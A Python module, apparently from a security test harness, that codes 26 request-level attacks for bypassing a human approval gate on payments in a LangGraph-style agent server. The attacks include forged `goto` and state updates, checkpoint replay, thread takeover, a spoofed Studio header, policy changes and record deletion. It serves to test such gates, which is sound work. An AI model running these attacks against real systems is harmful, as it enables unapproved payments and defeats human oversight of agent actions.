"""The 26 ways round an approval gate, each as code that only sends requests. They are the same for every server.

Each does to a `Target` what its title says, by all the target's attackers; what came of it is measured in `findings`.
"""

from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any, Final
from uuid import uuid4

from attack.target import Json, Reply, Target, wait_until

Act = Callable[[Target], str | None]
"""Does it; returns harm that shows elsewhere than in the number of payments, if it saw any."""


@dataclass(frozen=True)
class Way:
    """One way round a gate.

    `steps` people must say yes to the payment, `yeses` of them have before the attack; `paid` payments are right by
    its end. When `asks_first` is False it begins the payment by itself; `unless` is a kind of payment that it can't be
    tried on; `alone`: it would change what comes of others. `lacked` is what a payment that should not be lacked,
    `rule` why it does no harm to ours when it is let in.
    """

    number: int
    title: str
    act: Act
    steps: int = 1
    yeses: int = 0
    paid: int = 0
    slow: bool = False
    asks_first: bool = True
    unless: str = ""
    alone: bool = False
    lacked: str = "a yes"
    rule: str = ""


def goto_the_effect(target: Target) -> None:
    """Runs that begin behind the gate."""
    for node in target.beyond:
        target.run(command={"goto": node})


def goto_with_forged_state(target: Target) -> None:
    """The same, with state that says that all have said yes."""
    for node in target.beyond:
        target.run(command={"goto": [{"node": node, "input": target.claim()}]})


def answer_and_update(target: Target) -> None:
    """A yes that brings such state along."""
    target.run(command={"resume": target.yes, "update": target.claim()})


def update_then_answer(target: Target) -> None:
    """Such state first, a yes after it."""
    target.run(command={"update": target.claim()})
    target.run(command={"resume": target.yes})


def update_state(target: Target) -> None:
    """Such state written into the thread, in the name of each node; then the thread goes on."""
    for as_node in ({}, *({"as_node": node} for node in (target.gate, *target.beyond))):
        target.attack("POST", "/threads/{thread}/state", {"values": target.claim(), **as_node})
        target.run(input=None)


def new_input(target: Target) -> None:
    """Such state as input; and input as anybody may send it."""
    target.run(input=target.input() | target.claim())
    target.run(input=target.input())


def answer_null(target: Target) -> None:
    """No answer, as an answer."""
    target.run(command={"resume": None})


def another_graph(target: Target) -> None:
    """A run of the server's other graph."""
    graph, question = target.other
    target.run(graph=graph, input=question)


def replay_checkpoints(target: Target) -> None:
    """Runs from where it waited, when it has been paid; also by the right person, from a tab that was left open."""
    checkpoints = [
        entry["checkpoint"]["checkpoint_id"]
        for who in (*target.attackers, target.first)
        for entry in _listed(target, who, "POST", "/threads/{thread}/history", {"limit": 100})
        if {target.gate, *target.beyond} & set(entry["next"])
    ]
    for checkpoint in dict.fromkeys(checkpoints):
        target.run(input=None, checkpoint_id=checkpoint)
        target.replies.append(target.answer(target.first, checkpoint_id=checkpoint))


def copy_the_thread(target: Target) -> None:
    """A second thread that waits as the first does; the yes is tried there as well."""
    for reply in target.attack("POST", "/threads/{thread}/copy"):
        if not reply.refused:
            target.run(thread=reply.body["thread_id"], command={"resume": target.yes})


def make_up_history(target: Target) -> None:
    """A thread of the attacker's, with a past in which all have said yes."""
    for node in (target.gate, *target.beyond):
        thread = str(uuid4())
        steps = [{"updates": [{"values": target.claim(), "as_node": node}]}]
        target.attack(
            "POST", "/threads", {"thread_id": thread, "metadata": {"graph_id": target.graph}, "supersteps": steps}
        )
        target.run(thread=thread, input=None)


def cron_with_a_command(target: Target) -> None:
    """A run later, in which nobody looks at what it carries."""
    made = [
        target.attack(
            "POST",
            "/threads/{thread}/runs/crons",
            {"assistant_id": target.graph, "schedule": "* * * * * */2", "input": {}, "command": {"goto": node}},
        )
        for node in target.beyond
    ]
    crons = [reply.body["cron_id"] for replies in made for reply in replies if not reply.refused]
    if crons:
        before = target.runs()
        wait_until(lambda: len(target.runs()) >= len(before) + len(crons), "the crons to fire")
    for cron in crons:
        target.house.call(target.attackers[0], "DELETE", f"/runs/crons/{cron}")


def commands_of_v2(target: Target) -> None:
    """The newer protocol's answer, which takes a jump and an update beside the yes."""
    for n, node in enumerate(target.beyond):
        for interrupt in target.interrupts():
            said = {"interrupt_id": interrupt["id"], "response": target.yes, "goto": node, "update": target.claim()}
            target.attack("POST", "/threads/{thread}/commands", {"id": n, "method": "input.respond", "params": said})
            wait_until(target.rests, "the command's run")


def agent_to_agent(target: Target) -> None:
    """A message as from another agent, with a jump in it."""
    for assistant in target.assistants():
        for node in target.beyond:
            message = {
                "role": "user", "messageId": str(uuid4()), "contextId": target.thread,
                "parts": [{"kind": "data", "data": {"about": "it"}}], "command": {"goto": node},
            }  # fmt: skip
            body = {"jsonrpc": "2.0", "id": 1, "method": "message/send", "params": {"message": message}}
            target.attack("POST", f"/a2a/{assistant}", body)


def roll_back(target: Target) -> None:
    """The run that pays is undone when the money has left; then the thread goes on, as if nobody had answered."""
    target.answer(target.first, path="runs")
    wait_until(target.effects, "the payment")
    for who in target.attackers:
        for run in _listed(target, who, "GET", "/threads/{thread}/runs"):
            if run["status"] in ("pending", "running"):
                target.attack("POST", f"/threads/{{thread}}/runs/{run['run_id']}/cancel?action=rollback&wait=true")
    wait_until(target.rests, "the cut run")
    target.run(input=None)


def drop_the_client(target: Target) -> None:
    """Whoever said yes is gone when the money has left, which cancels their run; then the thread goes on."""
    body = {"assistant_id": target.graph, "command": {"resume": target.yes}, "on_disconnect": "cancel"}
    path = f"/threads/{target.thread}/runs/stream"
    target.replies.append(target.house.drop(target.first, path, body, target.effects))
    wait_until(target.rests, "the cut run")
    target.run(input=None)


def patch_metadata(target: Target) -> None:
    """The thread gets another owner, and is no longer found by whoever looks for what waits."""
    forged = {"owner": target.attackers[0], "inbox": "", "graph_id": target.other[0]}
    target.attack("PATCH", "/threads/{thread}", {"metadata": forged})


def take_over_the_thread(target: Target) -> str | None:
    """A stranger makes the thread that is there."""
    body = {"thread_id": target.thread, "if_exists": "do_nothing"}
    reply = target.house.call(target.stranger, "POST", "/threads", body)
    target.replies.append(reply)
    return "another's thread was handed over" if not reply.refused and reply.body.get("values") else None


def studio(target: Target) -> None:
    """Somebody who says to be LangGraph Studio jumps."""
    for node in target.beyond:
        body = {"assistant_id": target.graph, "command": {"goto": node}}
        path = f"/threads/{target.thread}/runs/wait"
        target.replies.append(target.house.call("studio", "POST", path, body))


def change_the_policy(target: Target) -> None:
    """Nobody's yes is needed for less than a fortune; then comes the payment."""
    limit = {"limit": 10**9}
    item = {"namespace": ["limits"], "key": "payments"}
    target.attack("PUT", "/store/items", {**item, "value": limit})
    made = target.attack("POST", "/assistants", {"graph_id": target.graph, "context": limit})
    assistants = [reply.body["assistant_id"] for reply in made if not reply.refused]
    target.begin(assistants[0] if assistants else None)
    target.house.call(target.attackers[0], "DELETE", "/store/items", item)


def lose_the_record(target: Target) -> None:
    """The half-approved thread, its runs and its past are deleted."""
    for run in target.runs():
        target.attack("DELETE", f"/threads/{{thread}}/runs/{run['run_id']}")
    target.attack("POST", "/threads/prune", {"thread_ids": [target.thread], "strategy": "delete"})
    target.attack("DELETE", "/threads/{thread}")


def double_click(target: Target) -> None:
    """The first person's yes, twice at once."""
    with ThreadPoolExecutor(2) as clicks:
        target.replies += clicks.map(lambda _: target.answer(target.first), range(2))


def own_request(target: Target) -> None:
    """The yes of the one who asked, whose role could say it."""
    target.replies.append(target.answer(target.begin_own()))


def both_steps(target: Target) -> None:
    """The first person's yes, and their yes in another role."""
    target.replies += [target.answer(who) for who in target.one_person()]


def sit_on_the_thread(target: Target) -> str | None:
    """A stranger is on the thread first, where its id can be known; then the payment is asked for, and they come again.

    Whoever is on a thread sees what is done on it.
    """
    made = _sit(target) if target.thread else []
    target.begin()
    made += _sit(target)
    target.replies += made
    seen = target.house.call(target.stranger, "GET", f"/threads/{target.thread}/state")
    target.replies.append(seen)
    return None if seen.refused else "another's thread was handed over"


def _sit(target: Target) -> list[Reply]:
    run = {"assistant_id": target.graph, "input": target.input(), "if_not_exists": "create"}
    return [
        target.house.call(target.stranger, "POST", path, body)
        for path, body in (
            ("/threads", {"thread_id": target.thread, "metadata": {"graph_id": target.graph}}),
            (f"/threads/{target.thread}/runs/wait", run),
        )
    ]


def break_the_thread(target: Target) -> None:
    """Settings of a run, with which it fails: what the thread waited for is no longer seen."""
    for setting in ({"recursion_limit": 1}, {"max_concurrency": -1}):
        target.run(input=target.input(), config=setting)


def _listed(target: Target, who: str, method: str, path: str, body: Json | None = None) -> list[Any]:
    """What `who` is shown; nothing when it is refused."""
    reply = target.house.call(who, method, path.format(thread=target.thread), body)
    return [] if reply.refused else list(reply.body)


WAYS: Final = (
    Way(1, "jump to the payment with `command.goto`", goto_the_effect),
    Way(2, "jump there with a forged `Send`", goto_with_forged_state),
    Way(3, "`resume` together with `command.update`", answer_and_update),
    Way(4, "`command.update` alone, then `resume`", update_then_answer),
    Way(5, "`threads.update_state`, with and without `as_node`", update_state),
    Way(
        6, "new `input` on the waiting thread", new_input, steps=2, yeses=1,
        rule="it is answered, and the same request asked again with the yes that it had",
    ),
    Way(7, '`{"resume": null}`', answer_null),
    Way(8, "another graph on the thread", another_graph),
    Way(9, "replay from a `checkpoint_id`", replay_checkpoints, yeses=1, paid=1),
    Way(10, "`threads.copy` of a half-approved thread", copy_the_thread, steps=2, yeses=1),
    Way(11, "`threads.create` with made-up `supersteps`", make_up_history),
    Way(12, "a cron that carries a `command`", cron_with_a_command),
    Way(13, "v2 commands with `goto` and `update`", commands_of_v2),
    Way(14, "A2A with `message.command.goto`", agent_to_agent),
    Way(15, '`runs.cancel(action="rollback")` during the payment', roll_back, paid=1, slow=True, unless="refund"),
    Way(
        16, '`on_disconnect: "cancel"`, and a client that drops', drop_the_client, paid=1, slow=True, unless="refund",
        rule="the run is cut; the payment has a key, and is found",
    ),
    Way(17, "`PATCH` of the thread's metadata", patch_metadata),
    Way(18, '`threads.create(if_exists="do_nothing")` with its id', take_over_the_thread),
    Way(19, "the Studio header, and no token", studio),
    Way(20, "`store.put`, an assistant's `context`: another policy", change_the_policy, asks_first=False, alone=True),
    Way(21, "delete, prune, `runs.delete`", lose_the_record, steps=2, yeses=1),
    Way(
        22, "a double click on a request of two steps", double_click, steps=2, lacked="the second person's yes",
        rule="one yes counts, the second person is asked",
    ),
    Way(
        23, "who asked says yes", own_request, asks_first=False, lacked="another's yes",
        rule="APPROVAL-OWN: does not count, another person is asked",
    ),
    Way(
        24, "one person says yes for two", both_steps, steps=2, lacked="the second person's yes",
        rule="APPROVAL-TWICE: does not count, another person is asked",
    ),
    Way(25, "a stranger on the thread, before the payment and after", sit_on_the_thread, asks_first=False),
    Way(26, "a run's `config` that makes the waiting thread fail", break_the_thread, steps=2, yeses=1),
)  # fmt: skip
